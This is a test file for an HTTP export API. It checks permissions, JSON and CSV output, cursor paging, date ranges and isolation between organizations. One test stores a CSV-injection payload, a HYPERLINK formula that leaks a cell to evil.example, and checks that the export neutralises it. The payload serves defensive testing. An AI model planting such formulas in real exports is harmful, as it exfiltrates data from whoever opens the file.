// The export API over HTTP: who may export, JSON and CSV, paging, ranges, and one organization's
// data never showing up in another's export.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalKeygate } from '../../infra/local/environment.ts';
import { ApiClient, startTestApi } from '../support/api.ts';
import { createTestOrg, postMessage, type TestOrg } from './chat-helpers.ts';

let keygate: LocalKeygate;
let org: TestOrg;
let api: ApiClient;
let startedAt: string;
const sessionIds: string[] = [];
const TRICKY = 'Comma, "quotes" and\r\nline breaks';

beforeAll(async () => {
  keygate = await startTestApi();
  startedAt = new Date(Date.now() - 1000).toISOString();
  org = await createTestOrg(keygate.url, 'Export Co');
  api = (await org.secretKey()).api;
  for (const metadata of [{ user: 'a' }, { user: 'b, "c"' }]) {
    const s = await api.post('/v1/chat/sessions', { metadata });
    sessionIds.push(s.body.sessionId);
    const reply = await postMessage(keygate.url, s.body.sessionId, s.body.token, { content: TRICKY });
    expect(reply.status).toBe(200);
  }
  // Another organization's data must never appear.
  const other = await createTestOrg(keygate.url, 'Someone Else');
  const otherApi = (await other.secretKey()).api;
  const s = await otherApi.post('/v1/chat/sessions', {});
  await postMessage(keygate.url, s.body.sessionId, s.body.token, { content: 'not yours' });
});

afterAll(async () => {
  await keygate?.stop();
});

const exportPath = (query: Record<string, string>) => `/api/export?${new URLSearchParams({ from: startedAt, ...query })}`;

/** RFC 4180 reader, enough for the tests. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length) throw new Error('CSV does not end with CRLF');
  return rows;
}

describe('who may export', () => {
  const PERMISSIONS = { error: 'forbidden', message: 'API key does not have access to this resource', code: 'INSUFFICIENT_PERMISSIONS' };

  it('403 for a publishable key', async () => {
    const { api: widget } = await org.publishableKey();
    const res = await widget.get(exportPath({ resource: 'sessions' }));
    expect(res.status).toBe(403);
    expect(res.body).toEqual(PERMISSIONS);
  });

  it('403 for a secret key without the export scope', async () => {
    const { api: chatOnly } = await org.secretKey(['chat']);
    const res = await chatOnly.get(exportPath({ resource: 'sessions' }));
    expect(res.status).toBe(403);
    expect(res.body).toEqual(PERMISSIONS);
  });

  it('401 without a key', async () => {
    const res = await new ApiClient(keygate.url).get(exportPath({ resource: 'sessions' }));
    expect(res.status).toBe(401);
  });
});

describe('JSON', () => {
  it('sessions of the caller\'s organization in the range, oldest first', async () => {
    const res = await api.get(exportPath({ resource: 'sessions' }), { Origin: 'https://evil.example' });
    expect(res.status, res.text).toBe(200);
    expect(res.body.nextCursor).toBeNull();
    expect(res.body.items.map((s: { id: string }) => s.id)).toEqual(sessionIds);
    expect(res.body.items[1]).toMatchObject({ type: 'chat', status: 'active', metadata: { user: 'b, "c"' } });
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('messages of the caller\'s organization, each turn in order', async () => {
    const res = await api.get(exportPath({ resource: 'messages' }));
    expect(res.status).toBe(200);
    expect(res.body.items).toHaveLength(4);
    expect(res.body.items.map((m: { role: string }) => m.role)).toEqual(['user', 'assistant', 'user', 'assistant']);
    expect(res.body.items[0]).toMatchObject({ sessionId: sessionIds[0], content: TRICKY });
    expect(JSON.stringify(res.body)).not.toContain('not yours');
  });

  it('usage per UTC day, oldest first, with the credits spent today', async () => {
    const from = new Date(Date.now() - 2 * 86_400_000).toISOString();
    const res = await api.get(`/api/export?resource=usage&from=${from}`);
    expect(res.status).toBe(200);
    expect(res.body.nextCursor).toBeNull();
    expect(res.body.items).toHaveLength(3);
    const today = res.body.items.at(-1);
    expect(today.date).toBe(new Date().toISOString().slice(0, 10));
    expect(Object.keys(today).sort()).toEqual(['credits', 'date', 'inputTokens', 'outputTokens', 'rateLimited', 'requests']);
    expect(today.inputTokens).toBeGreaterThanOrEqual(2);
    expect(today.outputTokens).toBeGreaterThanOrEqual(2);
    expect(today.credits).toBeGreaterThanOrEqual(2);
  });

  it('pages with a cursor until nextCursor is null, covering every item once', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { status: number; body: { items: { id: string }[]; nextCursor: string | null } } = await api.get(
        exportPath({ resource: 'messages', limit: '1', ...(cursor ? { cursor } : {}) }),
      );
      expect(res.status).toBe(200);
      seen.push(...res.body.items.map((m) => m.id));
      cursor = res.body.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(new Set(seen).size).toBe(4);
    expect(seen).toHaveLength(4);
  });

  it('a cursor with an empty key attribute is refused with 400 (DynamoDB would refuse it as a start key)', async () => {
    const createdAt = new Date().toISOString();
    for (const position of [
      { r: 'sessions', id: '', createdAt },
      { r: 'messages', id: '', createdAt, sessionId: 'ses_x' },
      { r: 'messages', id: 'msg_x', createdAt, sessionId: '' },
    ]) {
      const cursor = Buffer.from(JSON.stringify(position)).toString('base64url');
      const res = await api.get(exportPath({ resource: position.r, cursor }));
      expect(res.status, res.text).toBe(400);
      expect(res.body.details).toEqual([{ field: 'cursor', message: 'is not a cursor this API returned' }]);
    }
  });

  it.each([
    ['an HTTP date', 'Tue, 01 Dec 2026 00:00:00 GMT'],
    ['an expanded year', '+002026-12-01T00:00:00Z'],
    ['no milliseconds', '2026-12-01T00:00:00Z'],
    ['an offset', '2026-12-01T01:00:00.000+01:00'],
  ])('a cursor whose createdAt is %s is refused with 400 (DynamoDB would refuse it as a start key)', async (_, createdAt) => {
    const query = { from: '2026-11-30T00:00:00Z', to: '2026-12-02T00:00:00Z' };
    for (const position of [
      { r: 'sessions', id: 'ses_x', createdAt },
      { r: 'messages', id: 'msg_x', createdAt, sessionId: 'ses_x' },
    ]) {
      const cursor = Buffer.from(JSON.stringify(position)).toString('base64url');
      const res = await api.get(`/api/export?${new URLSearchParams({ resource: position.r, ...query, cursor })}`);
      expect(res.status, res.text).toBe(400);
      expect(res.body.details).toEqual([{ field: 'cursor', message: 'is not a cursor this API returned' }]);
    }
    // Control: the same position with the canonical time is a cursor this API could have returned.
    const canonical = Buffer.from(JSON.stringify({ r: 'sessions', id: 'ses_x', createdAt: '2026-12-01T00:00:00.000Z' })).toString('base64url');
    expect((await api.get(`/api/export?${new URLSearchParams({ resource: 'sessions', ...query, cursor: canonical })}`)).status).toBe(200);
  });

  it('a cursor of one resource is refused for another', async () => {
    const page = await api.get(exportPath({ resource: 'messages', limit: '1' }));
    const res = await api.get(exportPath({ resource: 'sessions', cursor: page.body.nextCursor }));
    expect(res.status).toBe(400);
    expect(res.body.details).toEqual([{ field: 'cursor', message: 'is not a cursor this API returned' }]);
  });
});

describe('CSV', () => {
  it('text/csv with a header row and RFC 4180 quoting', async () => {
    const res = await api.get(exportPath({ resource: 'messages', format: 'csv' }));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="keygate-messages-.*\.csv"$/);
    expect(res.headers.get('x-next-cursor')).toBeNull();
    const rows = readCsv(res.text);
    expect(rows[0]).toEqual(['id', 'sessionId', 'role', 'content', 'keyId', 'createdAt']);
    expect(rows).toHaveLength(5);
    expect(rows[1]![3]).toBe(TRICKY);
    expect(rows.slice(1).map((r) => r[2])).toEqual(['user', 'assistant', 'user', 'assistant']);
  });

  it('sessions as CSV, metadata as JSON in one field', async () => {
    const res = await api.get(exportPath({ resource: 'sessions', format: 'csv' }));
    const rows = readCsv(res.text);
    expect(rows[0]).toEqual(['id', 'type', 'status', 'keyId', 'origin', 'databaseId', 'createdAt', 'expiresAt', 'endedAt', 'metadata']);
    expect(JSON.parse(rows[2]![9]!)).toEqual({ user: 'b, "c"' });
  });

  it('puts the next page cursor in X-Next-Cursor', async () => {
    const first = await api.get(exportPath({ resource: 'sessions', format: 'csv', limit: '1' }));
    const cursor = first.headers.get('x-next-cursor');
    expect(cursor).toBeTruthy();
    expect(readCsv(first.text)).toHaveLength(2);
    const second = await api.get(exportPath({ resource: 'sessions', format: 'csv', limit: '1', cursor: cursor! }));
    expect(readCsv(second.text)[1]![0]).toBe(sessionIds[1]);
  });

  it('neutralises formula cells with a leading single quote (CSV injection), JSON stays as sent', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    const since = new Date(Date.now() - 1000).toISOString();
    const visitor = await createTestOrg(keygate.url, 'Formula Co');
    const visitorApi = (await visitor.secretKey()).api;
    const s = await visitorApi.post('/v1/chat/sessions', { metadata: { note: '@evil' } });
    expect((await postMessage(keygate.url, s.body.sessionId, s.body.token, { content: formula })).status).toBe(200);
    const query = (resource: string, format: string) => `/api/export?${new URLSearchParams({ resource, format, from: since })}`;
    const rows = readCsv((await visitorApi.get(query('messages', 'csv'))).text);
    expect(rows[1]![3]).toBe(`'${formula}`);
    const json = await visitorApi.get(query('messages', 'json'));
    expect(json.body.items[0].content).toBe(formula);
  });

  it('usage as CSV', async () => {
    const res = await api.get('/api/export?resource=usage&format=csv');
    const rows = readCsv(res.text);
    expect(rows[0]).toEqual(['date', 'requests', 'rateLimited', 'credits', 'inputTokens', 'outputTokens']);
    expect(rows.length).toBeGreaterThanOrEqual(2);
  });

  it('is byte-for-byte stable for the same query', async () => {
    const hash = async () => createHash('sha256').update((await api.get(exportPath({ resource: 'messages', format: 'csv' }))).text).digest('hex');
    expect(await hash()).toBe(await hash());
  });
});

describe('ranges', () => {
  it.each([
    ['to before from', { from: '2025-06-10T00:00:00Z', to: '2025-06-01T00:00:00Z' }, 'to'],
    ['more than 90 days', { from: '2025-01-01', to: '2025-06-01' }, 'from'],
    ['a date that is not ISO-8601', { from: 'last tuesday' }, 'from'],
    ['an unknown resource', { resource: 'keys' }, 'resource'],
    ['an unknown format', { format: 'xlsx' }, 'format'],
  ])('400 for %s', async (_, query, field) => {
    const res = await api.get(`/api/export?${new URLSearchParams({ resource: 'sessions', ...query })}`);
    expect(res.status).toBe(400);
    expect(res.body.details.map((d: { field: string }) => d.field)).toContain(field);
  });

  it('a range before anything happened is empty', async () => {
    const res = await api.get('/api/export?resource=sessions&from=2024-01-01&to=2024-01-02');
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ items: [], nextCursor: null });
  });
});
